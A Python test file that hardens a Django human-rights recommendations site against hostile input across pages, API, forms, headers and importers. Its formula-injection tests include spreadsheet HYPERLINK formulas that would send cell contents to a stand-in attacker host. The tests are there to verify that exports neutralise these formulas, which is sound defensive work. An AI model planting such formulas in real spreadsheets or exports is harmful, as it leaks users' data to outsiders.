"""Hostile input on every surface: never a 5xx, never raw markup in a page, the API's error shape,
and writes either stored exactly as received or refused with nothing written.

Every (surface, payload) pair is its own test id; the payloads are in tests/hardening/payloads.py.
Surfaces: the public pages' query parameters and paths, the API's list filters, facets, exports,
feed and widget; the API's writes with a token, and hostile tokens and If-Match headers; the public
submission form; the admin's add forms for assessments and evidence; what stored hostile text looks
like on every page; the importers (service, command and admin upload).
"""

import csv
import datetime
import io
import json
import re
import zipfile
from html import escape
from urllib.parse import urlencode, urlsplit

import pytest
from django.conf import settings
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import transaction
from django.http import QueryDict
from django.urls import reverse

from recommendations import services
from recommendations.imports import import_recommendations
from recommendations.imports.base import ImportFileError
from recommendations.imports.detect import detect_encoding
from recommendations.models import (
    AffectedGroup,
    Citation,
    EvidenceSource,
    ImplementationAssessment,
    Organisation,
    Position,
    Recommendation,
    Review,
    Session,
    Theme,
    ThemeScheme,
)
from recommendations.models.recommendation import TEXT_MAX_LENGTH
from recommendations.search.filters import RecommendationFilterSet
from recommendations.search.list_filters import (
    AssessmentFeedFilterSet,
    AssessmentFilterSet,
    DeletionFilterSet,
    EvidenceSourceFilterSet,
    ReviewFilterSet,
    ThemeFilterSet,
)
from recommendations.search.params import PARAM_LABELS
from states.models import State
from tests.hardening.payloads import FORBIDDEN_MARKUP, PAYLOADS, Payload, form_bytes, path_segment, query
from tests.recommendations.conftest import NEW_HEADER, UPR_INFO_HEADER, ohchr_list_docx, table_xlsx, upr_info_row
from tests.recommendations.editor_helpers import submission_form_data

pytestmark = pytest.mark.django_db

D = datetime.date
PAYLOAD_IDS = [payload.name for payload in PAYLOADS]
# Payloads a database text column can hold at all (PostgreSQL refuses NUL; a lone surrogate cannot be encoded).
STORABLE = [p for p in PAYLOADS if p.name not in {"nul-byte", "lone-surrogate", "too-many-parts"}]


@pytest.fixture(autouse=True)
def _fresh_rate_limits():
    cache.clear()


@pytest.fixture
def world(review_kaz_2010, make_recommendation, norway, org_a):
    """One assessed recommendation, so filters, pages and the feed have something to show."""
    recommendation = make_recommendation(review_kaz_2010, "Protect human rights defenders", paragraph="97.1")
    recommendation.recommending_states.set([norway])
    recommendation.themes.set([Theme.objects.get(scheme__slug="upr-info", slug="human-rights-defenders")])
    services.record_assessment(
        recommendation=recommendation,
        status="not_implemented",
        assessed_on=D(2014, 1, 1),
        organisation=org_a,
        narrative="Defenders were jailed.",
    )
    return recommendation


# Checks ----------------------------------------------------------------------------------------------------


def body_of(response) -> str:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return raw.decode("utf-8", "replace")


def assert_error_shape(data: object) -> None:
    """The API's one error shape: {"errors": {"<parameter, field or detail>": [messages] or {nested}}}."""
    assert isinstance(data, dict) and list(data) == ["errors"], data
    assert data["errors"] and all(isinstance(value, list | dict) for value in data["errors"].values()), data


def assert_answered_safely(response, path: str, allowed: set[int]) -> str:
    """No server error, no raw markup in HTML or XML, JSON errors in the API's shape; returns the body."""
    assert response.status_code in allowed, (response.status_code, body_of(response)[:500])
    body = body_of(response)
    content_type = response.get("Content-Type", "")
    if "html" in content_type or "xml" in content_type:
        for markup in FORBIDDEN_MARKUP:
            assert markup not in body, markup
    if path.startswith("/api/") and response.status_code >= 400:
        assert content_type.startswith("application/json"), content_type
        assert_error_shape(json.loads(body))
    return body


def history_counts() -> dict[str, int]:
    """Rows and history rows of everything a write may touch: nothing half-written when refused."""
    counted = {}
    for model in (ImplementationAssessment, Citation, EvidenceSource, Recommendation, Position):
        counted[model.__name__] = model.objects.count()
        counted[f"{model.__name__} history"] = model.history.count()
    return counted


# Query strings and paths of every public page and read endpoint ---------------------------------------------


def _query_surfaces() -> list[tuple[str, str, str, str]]:
    """(id, path, fixed query, parameter under attack)."""
    facets = "/api/v1/recommendations/facets/"
    surfaces = [(f"search:{name}", "/recommendations/", "", name) for name in PARAM_LABELS]
    surfaces.append(("compare:state", "/compare/", "state=KAZ", "state"))
    surfaces.append(("compare:cycle", "/compare/", "state=KAZ&state=FRA", "cycle"))
    surfaces += [(f"states:{name}", "/states/", "", name) for name in ("q", "all")]
    surfaces += [
        (f"briefing:{name}", "/states/KAZ/briefing/", "", name) for name in ("theme", "affected_group", "cycle")
    ]
    api_lists = {
        "api-recommendations": ("/api/v1/recommendations/", [*RecommendationFilterSet.base_filters, "cursor"]),
        "api-reviews": ("/api/v1/reviews/", [*ReviewFilterSet.base_filters, "page_size"]),
        "api-assessments": ("/api/v1/assessments/", list(AssessmentFilterSet.base_filters)),
        "api-evidence": ("/api/v1/evidence-sources/", list(EvidenceSourceFilterSet.base_filters)),
        "api-themes": ("/api/v1/themes/", list(ThemeFilterSet.base_filters)),
        "api-deletions": ("/api/v1/deletions/", list(DeletionFilterSet.base_filters)),
    }
    for label, (path, names) in api_lists.items():
        surfaces += [(f"{label}:{name}", path, "", name) for name in names]
    # The language of the API's answers (core/locale.py), read before any view.
    surfaces += [(f"{label}:lang", path, "", "lang") for label, (path, _names) in api_lists.items()]
    surfaces.append(("api-facets:facet", facets, "", "facet"))
    surfaces += [
        (f"api-facets:{name}", facets, "facet=response&facet=theme", name)
        for name in ("q", "theme", "state_under_review", "status", "ordering")
    ]
    for extension in ("csv", "jsonl", "xlsx"):
        path = f"/api/v1/recommendations/export.{extension}"
        surfaces += [
            (f"export-{extension}:{name}", path, "", name)
            for name in ("q", "state_under_review", "theme", "cycle", "updated_since", "ordering")
        ]
    surfaces += [
        (f"feed:{name}", "/api/v1/feeds/assessments.atom", "", name) for name in AssessmentFeedFilterSet.base_filters
    ]
    surfaces += [
        (f"embed:{name}", "/embed/recommendations/", "", name)
        for name in ("limit", "q", "state_under_review", "theme", "response", "ordering")
    ]
    return surfaces


QUERY_SURFACES = _query_surfaces()


@pytest.fixture(scope="class")
def read_world(django_db_setup, django_db_blocker):
    """The world of `world`, built once for a class of read-only tests (what Django's setUpTestData does).

    It lives in a transaction rolled back after the class; each test runs in a savepoint inside it.
    """
    with django_db_blocker.unblock(), transaction.atomic():
        review = Review.objects.create(
            state=State.objects.get(iso3="KAZ"), session=Session.objects.get(number=7), report_symbol="A/HRC/14/10"
        )
        recommendation = Recommendation.objects.create(
            review=review, text="Protect human rights defenders", paragraph="97.1"
        )
        recommendation.recommending_states.set([State.objects.get(iso3="NOR")])
        recommendation.themes.set([Theme.objects.get(scheme__slug="upr-info", slug="human-rights-defenders")])
        services.record_assessment(
            recommendation=recommendation,
            status="not_implemented",
            assessed_on=D(2014, 1, 1),
            organisation=Organisation.objects.create(name="Defenders Watch"),
            narrative="Defenders were jailed.",
        )
        yield recommendation
        transaction.set_rollback(True)


@pytest.mark.usefixtures("read_world")
class TestQueryParameters:
    @pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
    @pytest.mark.parametrize(
        ("path", "fixed", "name"), [s[1:] for s in QUERY_SURFACES], ids=[s[0] for s in QUERY_SURFACES]
    )
    def test_query_parameter_is_answered_safely(self, client, path, fixed, name, payload):
        query_string = "&".join(part for part in (fixed, query(name, payload)) if part)
        response = client.get(f"{path}?{query_string}")
        assert_answered_safely(response, path, {200, 400, 404})


PATH_SURFACES = [
    ("state-profile", "/states/{}/"),
    ("theme-page", "/themes/upr-info/{}/"),
    ("theme-scheme", "/themes/{}/human-rights-defenders/"),
    ("recommendation-page", "/recommendations/{}/"),
    ("submission-page", "/recommendations/{}/submit-assessment/"),
    ("api-recommendation", "/api/v1/recommendations/{}/"),
    ("api-theme-scheme", "/api/v1/theme-schemes/{}/"),
    ("api-affected-group", "/api/v1/affected-groups/{}/"),
    ("api-assessment", "/api/v1/assessments/{}/"),
]


@pytest.mark.usefixtures("read_world")
class TestPathSegments:
    @pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
    @pytest.mark.parametrize("template", [s[1] for s in PATH_SURFACES], ids=[s[0] for s in PATH_SURFACES])
    def test_path_segment_is_answered_safely(self, client, template, payload):
        path = template.format(path_segment(payload))
        assert_answered_safely(client.get(path), path, {200, 404})


# The reader's language: what the browser says, the remembered choice, the switcher ---------------------------


@pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
@pytest.mark.parametrize("path", ["/", "/states/KAZ/", "/api/v1/states/KAZ/"])
def test_hostile_language_headers_and_cookie_are_answered_safely(client, db, path, payload):
    text = payload.text.encode("utf-8", "surrogatepass").decode("latin-1")  # a header is bytes on the wire
    cookie = f"{settings.LANGUAGE_COOKIE_NAME}={path_segment(payload)}"
    response = client.get(path, HTTP_ACCEPT_LANGUAGE=text, HTTP_COOKIE=cookie)
    assert_answered_safely(response, path, {200})
    assert response["Content-Language"] == "en"


@pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
def test_hostile_language_choice_changes_nothing_and_stays_on_the_site(client, db, payload):
    text = payload.text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")
    response = client.post("/i18n/setlang/", {"language": text, "next": text})
    assert response.status_code == 302
    location = urlsplit(response["Location"])
    assert (location.scheme, location.netloc) == ("", ""), response["Location"]  # on this site
    assert settings.LANGUAGE_COOKIE_NAME not in response.cookies


# API writes with a token ------------------------------------------------------------------------------------

ASSESSMENTS = "/api/v1/assessments/"
EVIDENCE = "/api/v1/evidence-sources/"
SENTINEL = "\u2063HOSTILE\u2063"


def _json_body(base: dict, field: tuple, payload: Payload) -> str:
    """The JSON body with the field at `field` (a key path) holding the payload, as a client could send it."""
    target = base
    for key in field[:-1]:
        target = target[key]
    target[field[-1]] = SENTINEL
    literal = payload.json_literal or json.dumps(payload.text)
    return json.dumps(base).replace(json.dumps(SENTINEL), literal)


@pytest.fixture
def evidence(db):
    return EvidenceSource.objects.create(title="World Report 2014", url="https://www.hrw.org/world-report/2014")


def _stored_assessment_field(name: str):
    return {
        "narrative": lambda: ImplementationAssessment.objects.latest("pk").narrative,
        "excerpt": lambda: Citation.objects.get().excerpt,
        "page": lambda: Citation.objects.get().page,
    }.get(name)


# Fields that are free text are stored exactly; the others (choices, dates, slugs) must refuse the payload.
ASSESSMENT_WRITE_FIELDS = [
    ("narrative",),
    ("citations", 0, "excerpt"),
    ("citations", 0, "page"),
    ("organisation",),
    ("status",),
    ("assessed_on",),
    ("assessor_kind",),
]


@pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
@pytest.mark.parametrize("field", ASSESSMENT_WRITE_FIELDS, ids=[".".join(map(str, f)) for f in ASSESSMENT_WRITE_FIELDS])
def test_api_assessment_write_stores_exactly_or_refuses_cleanly(token_client_a, world, evidence, field, payload):
    base = {
        "recommendation": world.pk,
        "status": "partially_implemented",
        "assessed_on": "2014-01-21",
        "organisation": "defenders-watch",
        "narrative": "Some defenders were released.",
        "citations": [{"evidence": evidence.pk, "excerpt": "p. 12 says …", "page": "12"}],
    }
    before = history_counts()
    response = token_client_a.post(ASSESSMENTS, _json_body(base, field, payload), content_type="application/json")
    assert_answered_safely(response, ASSESSMENTS, {201, 400, 413})
    if response.status_code == 201:
        read = _stored_assessment_field(field[-1])
        assert read is not None, f"{field} accepted {payload.name}"
        assert read() == payload.text
        assert response.json()["narrative"] == ImplementationAssessment.objects.latest("pk").narrative
    else:
        assert history_counts() == before


EVIDENCE_WRITE_FIELDS = {
    "title": "title",
    "publisher": "publisher",
    "source_url": "url",
    "archive_url": "archive_url",
    "document_symbol": "document_symbol",
    "kind": None,
    "published_on": None,
}


@pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
@pytest.mark.parametrize("field", list(EVIDENCE_WRITE_FIELDS))
def test_api_evidence_write_stores_exactly_or_refuses_cleanly(token_client_a, world, field, payload):
    base = {"title": "World Report 2014", "publisher": "Human Rights Watch", "source_url": "https://hrw.org/wr"}
    before = history_counts()
    response = token_client_a.post(EVIDENCE, _json_body(base, (field,), payload), content_type="application/json")
    assert_answered_safely(response, EVIDENCE, {201, 400, 413})
    if response.status_code == 201:
        assert EVIDENCE_WRITE_FIELDS[field], f"{field} accepted {payload.name}"
        assert getattr(EvidenceSource.objects.get(), EVIDENCE_WRITE_FIELDS[field]) == payload.text
        assert response.json()[field] == payload.text
    else:
        assert history_counts() == before


def _header(payload: Payload) -> str:
    """The payload as a WSGI server hands a header over: its UTF-8 bytes read as Latin-1."""
    return form_bytes(payload).decode("latin-1")


@pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
def test_api_hostile_token_is_a_401(api_client, world, payload):
    api_client.credentials(HTTP_AUTHORIZATION=f"Token {_header(payload)}")
    response = api_client.post(EVIDENCE, {"title": "A report"}, format="json")
    assert_answered_safely(response, EVIDENCE, {401})


@pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
def test_api_hostile_if_match_is_a_412_and_writes_nothing(token_client_a, world, payload):
    assessment = ImplementationAssessment.objects.get()
    url = f"{ASSESSMENTS}{assessment.pk}/"
    before = history_counts()
    response = token_client_a.patch(url, {"narrative": "Changed"}, format="json", HTTP_IF_MATCH=_header(payload))
    assert_answered_safely(response, url, {412})
    assert history_counts() == before


# The public submission form ---------------------------------------------------------------------------------


def _form_body(base: dict, name: str, payload: Payload) -> str:
    """A urlencoded body as a browser or a bot could send it, with the payload as field `name`."""
    fixed = urlencode({key: value for key, value in base.items() if key != name})
    return f"{fixed}&{query(name, payload)}"


def _received(name: str, payload: Payload) -> str:
    """The value Django hands the form for the payload (invalid UTF-8 becomes U+FFFD), as a form field cleans it."""
    return QueryDict(query(name, payload)).get(name, "").strip()


SUBMISSION_FIELDS = {
    "narrative": lambda: ImplementationAssessment.objects.get(state="submitted").narrative,
    "evidence_title": lambda: EvidenceSource.objects.get().title,
    "evidence_url": lambda: EvidenceSource.objects.get().url,
    "evidence_publisher": lambda: EvidenceSource.objects.get().publisher,
    "name": lambda: ImplementationAssessment.objects.get(state="submitted").submitter.split(" <")[0],
    "contact": None,
    "your_organisation": lambda: ImplementationAssessment.objects.get(state="submitted").submitter.split(">, ")[1],
    "assessed_on": None,
    "status": None,
}


@pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
@pytest.mark.parametrize("field", list(SUBMISSION_FIELDS))
def test_public_submission_stores_exactly_or_refuses_cleanly(client, world, org_a, field, payload):
    url = reverse("recommendations:submit-assessment", args=[world.pk])
    base = submission_form_data(org_a)
    before = history_counts()
    body = _form_body(base, field, payload)
    response = client.post(url, body, content_type="application/x-www-form-urlencoded")
    page = assert_answered_safely(response, url, {200, 400})
    if response.status_code == 200:
        assert SUBMISSION_FIELDS[field], f"{field} accepted {payload.name}"
        assert SUBMISSION_FIELDS[field]() == _received(field, payload)
    else:
        assert history_counts() == before
        if payload.name == "script-tag" and response.context:
            assert escape(payload.text) in page or "Ensure this value" in page or "Enter a valid" in page


# The admin's add forms, as an editor ------------------------------------------------------------------------

ADMIN_ASSESSMENT_FIELDS = ("narrative", "submitter")
ADMIN_EVIDENCE_FIELDS = ("title", "publisher", "url", "archive_url", "document_symbol")


def _admin_add_stores_exactly_or_refuses(client, model, base: dict, field: str, payload: Payload, stored) -> None:
    """POST the model's admin add form with `payload` in `field`: either it is stored exactly (`stored()` is the
    new row) and its change page and the changelist show it safely, or it is refused and nothing is written."""
    admin = f"admin:{model._meta.app_label}_{model._meta.model_name}"
    url = reverse(f"{admin}_add")
    before = history_counts()
    response = client.post(url, _form_body(base, field, payload), content_type="application/x-www-form-urlencoded")
    assert_answered_safely(response, url, {200, 302, 400})
    if response.status_code == 302:
        row = stored()
        assert getattr(row, field) == _received(field, payload)
        for page in (reverse(f"{admin}_change", args=[row.pk]), reverse(f"{admin}_changelist")):
            assert_answered_safely(client.get(page), page, {200})
    else:
        assert history_counts() == before


@pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
@pytest.mark.parametrize("field", ADMIN_ASSESSMENT_FIELDS)
def test_admin_assessment_form_stores_exactly_or_refuses_cleanly(client, world, editor_a, org_a, field, payload):
    client.force_login(editor_a)
    base = {
        "recommendation": world.pk,
        "status": "partially_implemented",
        "assessed_on": "2014-01-21",
        "organisation": org_a.pk,
        "assessor_kind": "civil_society",
        "narrative": "Some defenders were released.",
        "submitter": "",
        "citations-TOTAL_FORMS": "0",
        "citations-INITIAL_FORMS": "0",
    }
    _admin_add_stores_exactly_or_refuses(
        client,
        ImplementationAssessment,
        base,
        field,
        payload,
        lambda: ImplementationAssessment.objects.get(recorded_by=editor_a),
    )


@pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
@pytest.mark.parametrize("field", ADMIN_EVIDENCE_FIELDS)
def test_admin_evidence_form_stores_exactly_or_refuses_cleanly(client, world, editor_a, field, payload):
    client.force_login(editor_a)
    base = {
        "title": "World Report 2014",
        "publisher": "Human Rights Watch",
        "published_on": "",
        "kind": "ngo_report",
        "url": "https://www.hrw.org/world-report/2014",
        "archive_url": "",
        "document_symbol": "",
    }
    _admin_add_stores_exactly_or_refuses(client, EvidenceSource, base, field, payload, EvidenceSource.objects.get)


# Stored hostile text on every page that shows it ------------------------------------------------------------


@pytest.fixture
def hostile_world(request, review_kaz_2010, review_fra_2008, make_recommendation, norway, org_a):
    """Everything public showing the payload: a recommendation's text, a theme, an affected group, an
    assessment's narrative, its evidence and the citation's excerpt."""
    text = request.param.text
    label = text[:200]
    theme = Theme.objects.create(scheme=ThemeScheme.objects.get(slug="ohchr"), name=label, slug="hostile")
    group = AffectedGroup.objects.create(name=label, slug="hostile")
    # The recommendation's text as long as any write path lets it be (the model's and importers' limit).
    recommendation = make_recommendation(review_kaz_2010, text[:TEXT_MAX_LENGTH], paragraph="97.1", states=[norway])
    recommendation.themes.add(theme)
    recommendation.affected_groups.add(group)
    make_recommendation(review_fra_2008, "Protect defenders in France", states=[norway])
    evidence = EvidenceSource.objects.create(title=label, publisher=label[:300], url="https://example.org/r")
    services.record_assessment(
        recommendation=recommendation,
        status="not_implemented",
        assessed_on=D(2014, 1, 1),
        organisation=org_a,
        narrative=text,
        citations=[(evidence, text, "12")],
    )
    return recommendation


def _display_pages(recommendation) -> list[tuple[str, str]]:
    return [
        ("home", "/"),
        ("search", "/recommendations/"),
        ("search-theme", "/recommendations/?theme=ohchr:hostile"),
        ("search-words", "/recommendations/?q=alert+OR+evil+OR+x+OR+drop"),
        ("recommendation", f"/recommendations/{recommendation.pk}/"),
        ("state-profile", "/states/KAZ/"),
        ("theme-index", "/themes/"),
        ("theme-page", "/themes/ohchr/hostile/"),
        ("compare", "/compare/?state=KAZ&state=FRA"),
        ("embed", "/embed/recommendations/"),
        ("feed", "/api/v1/feeds/assessments.atom"),
        ("api-list", "/api/v1/recommendations/?q=alert+OR+evil+OR+x+OR+drop"),
        ("api-detail", f"/api/v1/recommendations/{recommendation.pk}/"),
        ("api-facets", "/api/v1/recommendations/facets/?facet=theme&facet=affected_group"),
        ("api-assessments", "/api/v1/assessments/"),
        ("export-csv", "/api/v1/recommendations/export.csv"),
        ("export-jsonl", "/api/v1/recommendations/export.jsonl"),
        ("export-xlsx", "/api/v1/recommendations/export.xlsx"),
    ]


DISPLAY_PAGES = [name for name, _ in _display_pages(Recommendation(pk=1))]


@pytest.mark.parametrize("hostile_world", STORABLE, ids=[p.name for p in STORABLE], indirect=True)
@pytest.mark.parametrize("page", DISPLAY_PAGES)
def test_stored_hostile_text_is_shown_escaped(client, hostile_world, page):
    path = dict(_display_pages(hostile_world))[page]
    body = assert_answered_safely(client.get(path), path, {200})
    if page == "api-detail":
        assert json.loads(body)["text"] == hostile_world.text


# Importers --------------------------------------------------------------------------------------------------

TABLE_HEADER = [
    "paragraph",
    "text",
    "state_under_review",
    "recommending_states",
    "session",
    "response",
    "action_category",
    "themes",
    "affected_groups",
    "sdgs",
]
PLACEHOLDER = "HOSTILEPLACEHOLDER"


def _table_row(text: str) -> list[str]:
    return ["97.1", text, "KAZ", "NOR", "7", "supported", "5", "upr-info:Human rights defenders", "", "16"]


def _csv_bytes(rows: list[list[str]]) -> bytes:
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    return text.getvalue().encode("utf-8", "surrogatepass")


def _patched_zip(stream: io.BytesIO, payload: Payload) -> io.BytesIO:
    """The DOCX/XLSX with the placeholder replaced by the payload in its XML, even where XML forbids it."""
    escaped = escape(payload.text, quote=False).encode("utf-8", "surrogatepass")
    source, patched = zipfile.ZipFile(stream), io.BytesIO()
    with zipfile.ZipFile(patched, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, source.read(item).replace(PLACEHOLDER.encode(), escaped))
    patched.seek(0)
    return patched


def table_csv_file(payload: Payload) -> io.BytesIO:
    return io.BytesIO(_csv_bytes([TABLE_HEADER, _table_row(payload.text)]))


def table_xlsx_file(payload: Payload) -> io.BytesIO:
    return _patched_zip(table_xlsx([TABLE_HEADER, _table_row(PLACEHOLDER)]), payload)


def upr_info_file(payload: Payload) -> io.BytesIO:
    return io.BytesIO(_csv_bytes([UPR_INFO_HEADER, upr_info_row(payload.text)]))


def ohchr_file(payload: Payload) -> io.BytesIO:
    row = [f"97.1 {PLACEHOLDER} (Norway)\nSource of position: A/HRC/14/10/Add.1", "Supported", "- Women's rights", ""]
    return _patched_zip(ohchr_list_docx(NEW_HEADER, ["Theme: Women", row]), payload)


IMPORT_FILES = {
    "table-csv": (table_csv_file, {}),
    "table-xlsx": (table_xlsx_file, {}),
    "upr-info-csv": (upr_info_file, {}),
    "ohchr-docx": (ohchr_file, {"state": "KAZ", "session": 7}),
}


def _import(file, **options):
    """The import's result, or the file-level error it raised."""
    try:
        return import_recommendations(file=file, **options)
    except ImportFileError as error:
        return error


def _assert_imported_exactly_or_nothing(result, before: dict) -> None:
    if isinstance(result, ImportFileError):
        assert str(result)
        assert history_counts() == before
    elif result.written:
        assert not result.errors
        recommendation = Recommendation.objects.get()
        assert recommendation.text
        assert history_counts()["Recommendation history"] == before["Recommendation history"] + 1
    else:
        assert result.errors and all(problem.row for problem in result.errors)
        assert history_counts() == before


def _expected_text(file_format: str, payload: Payload) -> str:
    """What each format's documented normalisation keeps of the text (see recommendations/importers).

    Bytes that are not UTF-8 (a lone surrogate written as UTF-8 would be) are read as Windows-1252 or Mac
    Roman, as the encoding detection documents.
    """
    import html

    text = payload.text
    if file_format.endswith("-csv") and text != form_bytes(payload).decode("utf-8", "replace"):
        text = form_bytes(payload).decode(detect_encoding(io.BytesIO(form_bytes(payload))))
    if file_format == "upr-info-csv":
        return " ".join(html.unescape(text).split())
    if file_format == "ohchr-docx":
        return " ".join(text.split()).rstrip(";").rstrip()
    return text.strip()


@pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
@pytest.mark.parametrize("file_format", list(IMPORT_FILES))
def test_import_stores_exactly_or_writes_nothing(world, file_format, payload):
    Recommendation.objects.all().delete()
    build, options = IMPORT_FILES[file_format]
    before = history_counts()
    result = _import(build(payload), **options)
    _assert_imported_exactly_or_nothing(result, before)
    if not isinstance(result, ImportFileError) and result.written:
        assert Recommendation.objects.get().text == _expected_text(file_format, payload)


@pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
def test_import_command_reports_or_imports(world, tmp_path, payload):
    Recommendation.objects.all().delete()
    path = tmp_path / "table.csv"
    path.write_bytes(table_csv_file(payload).getvalue())
    before = history_counts()
    out = io.StringIO()
    try:
        call_command("import_recommendations", str(path), "--report", str(tmp_path / "report.csv"), stdout=out)
    except CommandError as error:
        assert str(error)
        assert history_counts() == before
        if (tmp_path / "report.csv").exists():
            rows = list(csv.reader((tmp_path / "report.csv").open(encoding="utf-8")))
            assert rows[0] == ["row", "column", "level", "message"] and all(row[0] for row in rows[1:])
    else:
        assert out.getvalue().endswith("Imported.\n")
        assert Recommendation.objects.get().text == _expected_text("table-csv", payload)


@pytest.fixture
def importer_client(client, django_user_model, settings, tmp_path):
    from django.contrib.auth.models import Permission

    settings.VAR_DIR = tmp_path
    user = django_user_model.objects.create_user(username="importer", password="correct horse battery", is_staff=True)
    user.user_permissions.add(
        Permission.objects.get(codename="add_recommendation"), Permission.objects.get(codename="view_recommendation")
    )
    client.force_login(user)
    return client


ADMIN_IMPORT_SURFACES = ["text-cell", "response-cell", "themes-cell", "state-field"]


@pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
@pytest.mark.parametrize("surface", ADMIN_IMPORT_SURFACES)
def test_admin_import_preview_is_answered_safely(importer_client, world, surface, payload):
    """Upload and preview (a dry run): the form again with the error, or the preview with escaped problems."""
    url = reverse("admin:recommendations_recommendation_import")
    row = _table_row("Protect defenders")
    column = {"text-cell": 1, "response-cell": 5, "themes-cell": 7}.get(surface)
    if column is not None:
        row[column] = payload.text
    file = SimpleUploadedFile("table.csv", _csv_bytes([TABLE_HEADER, row]), content_type="text/csv")
    fields = {"format": "auto", "session": ""}
    before = history_counts()
    if surface == "state-field":
        body = {"file": file, **fields, "state": form_bytes(payload).decode("utf-8", "replace")}
        if payload.name == "too-many-parts":
            body.update({f"extra{i}": "x" for i in range(1100)})
        response = importer_client.post(url, body)
    else:
        response = importer_client.post(url, {"file": file, **fields, "state": ""})
    assert_answered_safely(response, url, {200, 400})
    assert history_counts() == before


# Spreadsheet formula injection ------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+2",
    "-1+2",
    "@SUM(1+1)",
    "'=already quoted",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_export_neutralises_formulas_and_reimports_them_unchanged(client, world, formula):
    Recommendation.objects.filter(pk=world.pk).update(text=formula)
    exported = body_of(client.get("/api/v1/recommendations/export.csv"))
    rows = list(csv.DictReader(io.StringIO(exported.removeprefix("\ufeff"))))
    assert rows[0]["text"] == "'" + formula  # a spreadsheet shows it as text, and runs nothing
    before = history_counts()
    result = import_recommendations(file=io.BytesIO(exported.encode()), format="table")
    assert (result.written, result.created, result.updated, result.unchanged) == (True, 0, 0, 1)
    assert Recommendation.objects.get().text == formula
    assert history_counts() == before


@pytest.mark.parametrize("formula", FORMULAS)
def test_xlsx_export_writes_formulas_as_text_cells(client, world, formula):
    from openpyxl import load_workbook

    Recommendation.objects.filter(pk=world.pk).update(text=formula)
    response = client.get("/api/v1/recommendations/export.xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("text") + 1)
    assert (cell.value, cell.data_type) == (formula, "s")


def test_import_of_a_formula_cell_stores_the_text(world):
    Recommendation.objects.all().delete()
    formula = Payload("formula", '=HYPERLINK("http://evil.example","Click")')
    result = import_recommendations(file=table_csv_file(formula))
    assert result.written
    assert Recommendation.objects.get().text == formula.text


def test_import_report_of_a_malformed_utf8_file_is_decoded_not_crashed(world):
    """Bytes that are not UTF-8 are read as a legacy single-byte encoding (the importer's documented rule)."""
    Recommendation.objects.all().delete()
    data = _csv_bytes([TABLE_HEADER, _table_row("Protect the defenders")])
    data = data.replace(b"Protect the", b"Protect th\xc3\x28e")
    result = import_recommendations(file=io.BytesIO(data))
    assert result.written
    assert re.fullmatch(r"Protect th.+\(e defenders", Recommendation.objects.get().text)
